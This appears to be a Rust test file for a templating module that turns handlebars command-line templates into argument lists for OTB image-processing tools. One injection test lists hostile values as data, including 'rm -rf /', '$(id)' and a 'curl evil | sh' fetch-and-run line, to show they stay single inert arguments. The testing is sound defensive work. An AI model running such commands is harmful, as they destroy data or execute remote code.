use serde_json::{json, Value};

use super::*;

fn argv(cmdline: &str, variables: Value) -> Vec<String> {
    CommandLine::parse(cmdline, "ortho")
        .unwrap()
        .render(&variables)
        .unwrap()
}

fn argv_error(cmdline: &str, variables: Value) -> String {
    match CommandLine::parse(cmdline, "ortho") {
        Err(e) => e.to_string(),
        Ok(c) => c.render(&variables).unwrap_err().to_string(),
    }
}

#[test]
fn the_otb_example_renders_one_argument_per_word() {
    assert_eq!(
        argv(
            r#"otbcli_OrthoRectification -io.in {{pan}} -io.out "{{out_dir}}/ortho.tif""#,
            json!({"pan": "/data/in/PAN.TIF", "out_dir": "/data/out/run 1"})
        ),
        [
            "otbcli_OrthoRectification",
            "-io.in",
            "/data/in/PAN.TIF",
            "-io.out",
            "/data/out/run 1/ortho.tif"
        ]
    );
}

#[test]
fn injection_attempts_stay_exactly_one_argument() {
    let hostile = [
        "a.tif; rm -rf /",
        "$(id)",
        "`id`",
        "a.tif && curl evil | sh",
        "it's \"quoted\"",
        "line1\nline2",
        "*",
        "/data/*.tif",
        "{{pan}}",
        "$HOME",
        "a b\tc",
        "--help",
        "",
        "\\",
        "'",
        "\"",
    ];
    for value in hostile {
        let vars = json!({ "x": value });
        assert_eq!(
            argv("prog {{x}}", vars.clone()),
            ["prog", value],
            "{value:?}"
        );
        assert_eq!(
            argv("prog \"{{x}}\"", vars.clone()),
            ["prog", value],
            "{value:?}"
        );
        assert_eq!(
            argv("prog '{{x}}'", vars.clone()),
            ["prog", value],
            "{value:?}"
        );
        assert_eq!(
            argv("prog --in={{x}} tail", vars.clone()),
            ["prog", &format!("--in={value}"), "tail"]
        );
        // Triple-stash (unescaped in handlebars terms) is no different: there is no escaping to turn off.
        assert_eq!(argv("prog {{{x}}}", vars), ["prog", value], "{value:?}");
    }
}

#[test]
fn html_escaping_is_off() {
    assert_eq!(
        argv("p {{x}}", json!({"x": "<a href=\"x\">&amp;'=`</a>"})),
        ["p", "<a href=\"x\">&amp;'=`</a>"]
    );
    let body = BodyTemplate::parse("{{x}}", "e").unwrap();
    assert_eq!(
        body.render(&json!({"x": "a&b<c>\"'"})).unwrap(),
        "a&b<c>\"'"
    );
}

#[test]
fn nested_paths_and_non_string_values() {
    assert_eq!(
        argv(
            "p {{input.pan}} {{input.bands.[1]}} {{n}} {{flag}} {{input.size.x}}",
            json!({"input": {"pan": "P.TIF", "bands": ["b1", "b2"], "size": {"x": 10.5}}, "n": 3, "flag": true})
        ),
        ["p", "P.TIF", "b2", "3", "true", "10.5"]
    );
}

#[test]
fn a_word_that_renders_empty_stays_an_empty_argument() {
    assert_eq!(
        argv("p --label {{label}} --end \"\"", json!({"label": ""})),
        ["p", "--label", "", "--end", ""]
    );
    assert_eq!(
        argv("p {{#if no}}x{{/if}} q", json!({"no": false})),
        ["p", "", "q"]
    );
}

#[test]
fn each_blocks_make_one_argument_per_word_template() {
    let vars = json!({"files": ["a.tif", "b c.tif"]});
    assert_eq!(
        argv("p {{#each files}}{{this}},{{/each}}", vars.clone()),
        ["p", "a.tif,b c.tif,"]
    );
    assert_eq!(
        argv(
            "p \"{{#each files}}{{@index}}={{this}} {{/each}}\"",
            vars.clone()
        ),
        ["p", "0=a.tif 1=b c.tif "]
    );
    // An unquoted space inside a block splits it: each half is not a template on its own.
    assert_eq!(
        argv_error("p {{#each files}}{{this}} {{/each}}", vars),
        "element 'ortho': Expected word 2 `{{#each files}}{{this}}` of header 'cmdline' to be a handlebars template, \
         but the block '{{#each}}' is not closed within it (a block must lie within one word: quote the word if the \
         block contains spaces)"
    );
}

#[test]
fn join_makes_one_argument_from_a_list() {
    let vars = json!({"files": ["a.tif", "b c.tif", 3, false], "sep": ";"});
    assert_eq!(
        argv("p -il={{join files}}", vars.clone()),
        ["p", "-il=a.tif,b c.tif,3,false"]
    );
    assert_eq!(
        argv("p {{join files \" \"}}", vars.clone()),
        ["p", "a.tif b c.tif 3 false"]
    );
    assert_eq!(
        argv("p {{join files sep}}", vars),
        ["p", "a.tif;b c.tif;3;false"]
    );
}

#[test]
fn spread_makes_one_argument_per_item_and_only_as_a_whole_word() {
    let vars = json!({"input": {"files": ["a.tif", "b c.tif; rm -rf /", 7]}, "none": []});
    assert_eq!(
        argv(
            "otbcli_ConcatenateImages -il {{spread input.files}} -out o.tif",
            vars.clone()
        ),
        [
            "otbcli_ConcatenateImages",
            "-il",
            "a.tif",
            "b c.tif; rm -rf /",
            "7",
            "-out",
            "o.tif"
        ]
    );
    assert_eq!(argv("p {{ spread none }} q", vars.clone()), ["p", "q"]);
    let not_whole = "element 'ortho': Expected word 2 `{} ` of header 'cmdline' to render, but `spread` must be a whole, \
                     unquoted cmdline word such as {{spread files}}; use {{join files}} inside a word";
    for word in ["x{{spread input.files}}", "\"{{spread input.files}}\""] {
        assert_eq!(
            argv_error(&format!("p {word}"), vars.clone()),
            not_whole.replace("{} ", word),
            "{word}"
        );
    }
}

#[test]
fn lists_with_unprintable_items_or_non_lists_are_refused() {
    let vars = json!({"mixed": ["a", {"k": 1}], "s": "a.tif", "nulls": [null]});
    assert_eq!(
        argv_error("p {{spread mixed}}", vars.clone()),
        "element 'ortho': Expected word 2 `{{spread mixed}}` of header 'cmdline' to render, \
         but item 1 of list 'mixed' must be a string, number or boolean, but it is an object"
    );
    assert_eq!(
        argv_error("p {{spread s}}", vars.clone()),
        "element 'ortho': Expected word 2 `{{spread s}}` of header 'cmdline' to render, \
         but variable 's' must be a list, but it is a string"
    );
    assert_eq!(
        argv_error("p {{join nulls}}", vars),
        "element 'ortho': Expected word 2 `{{join nulls}}` of header 'cmdline' to render, \
         but item 0 of list 'nulls' must be a string, number or boolean, but it is null"
    );
}

#[test]
fn missing_variables_name_themselves_their_word_and_header() {
    let vars = json!({"input": {"pan": "P"}, "files": []});
    for (cmdline, word, variable) in [
        ("p -in {{pan}}", "word 3 `{{pan}}`", "pan"),
        (
            "p -in \"{{input.xs}}/a\"",
            "word 3 `\"{{input.xs}}/a\"`",
            "input.xs",
        ),
        ("p {{json nope}}", "word 2 `{{json nope}}`", "nope"),
        ("p {{join nope}}", "word 2 `{{join nope}}`", "nope"),
        (
            "p {{spread nope.deep}}",
            "word 2 `{{spread nope.deep}}`",
            "nope.deep",
        ),
        (
            "p {{#each files}}{{this}}{{/each}} {{later}}",
            "word 3 `{{later}}`",
            "later",
        ),
    ] {
        assert_eq!(
            argv_error(cmdline, vars.clone()),
            format!(
                "element 'ortho': Expected variable '{variable}' for {word} of header 'cmdline', \
                 but the job has no such variable"
            ),
            "{cmdline}"
        );
    }
    let body = BodyTemplate::parse(r#"{"in": {{json input.ms}}}"#, "norm").unwrap();
    assert_eq!(
        body.render(&vars).unwrap_err().to_string(),
        "element 'norm': Expected variable 'input.ms' for header 'body', but the job has no such variable"
    );
}

#[test]
fn syntax_errors_are_found_before_any_job_renders() {
    assert_eq!(
        CommandLine::parse("p {{#if x}}", "e").unwrap_err().to_string(),
        "element 'e': Expected word 2 `{{#if x}}` of header 'cmdline' to be a handlebars template, \
         but the block '{{#if}}' is not closed within it (a block must lie within one word: quote the word if the \
         block contains spaces)"
    );
    assert!(matches!(
        BodyTemplate::parse("{{#each a}}{{/if}}", "e"),
        Err(Failure::TemplateSyntax { .. })
    ));
    // Closed blocks, nested ones included, pass the check.
    assert!(BodyTemplate::parse("{{#each a}}{{#if this}}{{this}}{{/if}}{{/each}}", "e").is_ok());
    assert!(matches!(
        BodyTemplate::parse("{{x", "e"),
        Err(Failure::TemplateSyntax { .. })
    ));
    assert_eq!(
        CommandLine::parse("", "e").unwrap_err().to_string(),
        "element 'e': Expected header 'cmdline' to be a command line, but it has no words"
    );
}

#[test]
fn body_templates_render_json_with_the_json_helper() {
    let body = BodyTemplate::parse(
        r#"{"pan": {{json input.pan}}, "bands": {{json bands}}, "note": "{{note}}"}"#,
        "e",
    )
    .unwrap();
    let rendered = body
        .render(&json!({"input": {"pan": "a \"b\"\n"}, "bands": [1, 2], "note": "n"}))
        .unwrap();
    assert_eq!(
        rendered,
        r#"{"pan": "a \"b\"\n", "bands": [1,2], "note": "n"}"#
    );
    let parsed: Value = serde_json::from_str(&rendered).unwrap();
    assert_eq!(parsed["pan"], "a \"b\"\n");
}

#[test]
fn partials_and_unknown_helpers_are_errors_not_empty_text() {
    assert!(matches!(
        CommandLine::parse("p {{> other}}", "e")
            .unwrap()
            .render(&json!({})),
        Err(Failure::Render { .. })
    ));
    assert!(matches!(
        CommandLine::parse("p {{shell x}}", "e")
            .unwrap()
            .render(&json!({"x": 1})),
        Err(Failure::Render { .. }) | Err(Failure::MissingVariable { .. })
    ));
}
